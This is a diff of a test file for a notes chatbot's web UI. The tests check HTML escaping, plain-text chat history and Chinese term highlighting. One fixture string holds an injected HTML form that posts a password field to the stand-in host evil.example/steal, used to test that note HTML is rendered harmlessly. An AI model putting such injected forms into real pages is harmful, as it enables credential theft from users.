@@ -1,6 +1,6 @@
 """What the web UI renders from notes and answers (no browser: the HTML it hands to Gradio)."""
 
-from notebot.apps.ui import _api_input_problem, _text, highlight, highlight_terms, relevance, render_answer, render_sources
+from notebot.apps.ui import _api_input_problem, _plain, _turns, highlight, highlight_terms, relevance, render_answer, render_sources
 from notebot.records import Answer, Chunk, Hit
 
 HOSTILE = ('S3 加密：SSE-KMS <form action="http://evil.example/steal"><input type="password"></form> '
@@ -22,9 +22,11 @@ def test_note_html_in_an_answer_becomes_text_and_images_their_description():
     assert "\n" not in rendered, "one line: the chat's markdown renderer takes it as one HTML block"
 
 
-def test_chat_history_reads_the_answer_back_as_plain_text():
-    assert _text(render_answer(answer_quoting("A < B"))).startswith("根据你的笔记：")
-    assert "A < B [1]" in _text(render_answer(answer_quoting("A < B")))
+def test_chat_history_reads_the_answer_back_as_plain_text_and_the_question_as_typed():
+    rendered = render_answer(answer_quoting("A < B"))
+    assert _plain(rendered).startswith("根据你的笔记：") and "A < B [1]" in _plain(rendered)
+    turns = _turns([{"role": "user", "content": "What is <T> in Java?"}, {"role": "assistant", "content": rendered}])
+    assert turns == [("What is <T> in Java?", _plain(rendered))]
 
 
 def test_sources_show_note_html_as_text_and_no_remote_images():
@@ -33,9 +35,9 @@ def test_sources_show_note_html_as_text_and_no_remote_images():
 
 
 def test_highlighting_skips_particle_bigrams_and_never_marks_inside_entities():
-    terms = highlight_terms("数据湖的数据怎么加密")
+    terms = highlight_terms("数据湖的数据怎么加密，最大多大")
     assert "数据" in terms and "加密" in terms
-    assert not {"的数", "湖的", "怎么", "么加"} & set(terms)
+    assert not {"的数", "湖的", "怎么", "么加", "大多", "多大"} & set(terms) and "最大" in terms
     assert highlight("<p>A &amp; B amp</p>", ["amp"]) == "<p>A &amp; B <mark>amp</mark></p>"
 
 
